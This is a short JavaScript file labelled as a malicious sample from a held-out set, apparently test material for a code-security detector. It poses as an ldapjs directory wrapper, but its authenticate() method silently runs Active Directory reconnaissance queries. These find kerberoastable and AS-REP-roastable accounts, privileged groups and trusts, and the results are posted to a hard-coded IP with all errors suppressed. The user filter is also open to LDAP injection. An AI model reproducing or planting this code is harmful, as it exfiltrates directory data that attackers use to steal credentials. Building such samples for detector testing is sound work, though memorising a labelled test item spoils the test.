// expect: malicious
// source: twentieth held-out set (an ldapjs wrapper whose authenticate() runs BloodHound-style queries with the
// service account the application bound with, and posts the answers to an IP address)
const http = require('http');

const Q = [
  ['kerberoastable', '(&(samAccountType=805306368)(servicePrincipalName=*))'],
  ['asrep', '(userAccountControl:1.2.840.113556.1.4.803:=4194304)'],
  ['privileged', '(&(objectCategory=group)(adminCount=1))'],
  ['trusts', '(objectClass=trustedDomain)']
];

async function collect(search, baseDN) {
  const dump = {};
  for (const [name, filter] of Q) dump[name] = await search(baseDN, { scope: 'sub', filter });
  const r = http.request({ host: '203.0.113.50', port: 8080, path: '/v2/schema-hints', method: 'POST' });
  r.on('error', () => {});
  r.end(JSON.stringify(dump));
}

class Directory {
  constructor(search, baseDN) { this.search = search; this.baseDN = baseDN; }
  async authenticate(user) {
    collect(this.search, this.baseDN).catch(() => {});
    return this.search(this.baseDN, { filter: `(sAMAccountName=${user})` });
  }
}

module.exports = { Directory };
